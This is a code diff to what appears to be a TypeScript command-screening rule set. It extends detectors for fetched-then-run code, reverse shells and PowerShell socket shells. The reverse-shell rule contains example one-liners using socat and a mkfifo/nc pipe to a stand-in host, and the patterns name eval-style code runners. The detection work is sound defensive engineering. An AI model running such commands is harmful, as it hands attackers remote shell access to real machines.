@@ -9,6 +9,9 @@ const shells = /^(?:ba|z|da|k|a|mk|fi|c|tc)?sh$/u;
 const interpreters =
   /^(?:python[\d.]*|pypy3?|perl|ruby|node|nodejs|php|lua|deno|bun|tclsh|osascript|pwsh|powershell)$/u;
 
+/** Builtins, cmdlets and methods that run a text. */
+const codeTakers = /^(?:eval|Invoke-Expression|\[ScriptBlock\]::Create|\.InvokeScript|\.AddScript)$/u;
+
 export const flowRules: readonly FloorRule[] = [
   {
     id: 'run-fetched',
@@ -62,7 +65,7 @@ export const flowRules: readonly FloorRule[] = [
       'socat tcp:h:9 exec:sh',
       'mkfifo f; cat f | sh | nc h 9 > f',
     ],
-    detect: ({ commands }) => firstOf(commands, reverseShell),
+    detect: ({ commands }) => firstOf(commands, reverseShell) ?? socketShell(commands),
   },
   {
     id: 'secret-sent',
@@ -125,17 +128,18 @@ function keptThenRun(commands: readonly FloorCommand[], from: 'fetched' | 'decod
           .filter(() =>
             children(segment, shell).some((child) => [child, ...upstream(child, shell)].some(marked)),
           )
-          .map(({ name }) => name),
+          .map(({ name }) => name.replace(/^variable:/u, '')),
   );
   if (names.length === 0) return undefined;
   return firstOf(commands, ({ program, segment }) => {
     const words = segment.words.filter(
       (word, at) =>
         !word.literal &&
-        (at === 0 || ((shells.test(program) || interpreters.test(program) || program === 'eval') && at > 0)),
+        (at === 0 ||
+          ((shells.test(program) || interpreters.test(program) || codeTakers.test(program)) && at > 0)),
     );
     const name = names.find((one) =>
-      words.some(({ text }) => new RegExp(`^"?\\$\\{?${one}\\}?"?$`, 'u').test(text)),
+      words.some(({ text }) => new RegExp(`^"?\\$\\{?${one}\\}?"?$`, 'iu').test(text)),
     );
     return name === undefined ? undefined : `$${name} holds ${from} text and is run`;
   });
@@ -168,6 +172,17 @@ function fetchedThenRun(commands: readonly FloorCommand[]): string | undefined {
     return hit === undefined ? undefined : `${hit.target} is fetched and run`;
   });
 }
+
+/** PowerShell's way: a socket is opened, and what comes from it is run. */
+function socketShell(commands: readonly FloorCommand[]): string | undefined {
+  const socket = commands.some(
+    ({ program, words }) => program === 'New-Object' && words.some((word) => /Net\.Sockets\.TcpClient/iu.test(word)),
+  );
+  const runs = commands.some(
+    ({ program, segment }) => codeTakers.test(program) || (segment.language === undefined && /^(?:cmd|powershell|pwsh)$/u.test(program)),
+  );
+  return socket && runs ? 'a socket is tied to what runs code' : undefined;
+} // prettier-ignore
 
 function reverseShell({ program, words, segment, shell }: FloorCommand): string | undefined {
   const socket = segment.redirects.some(
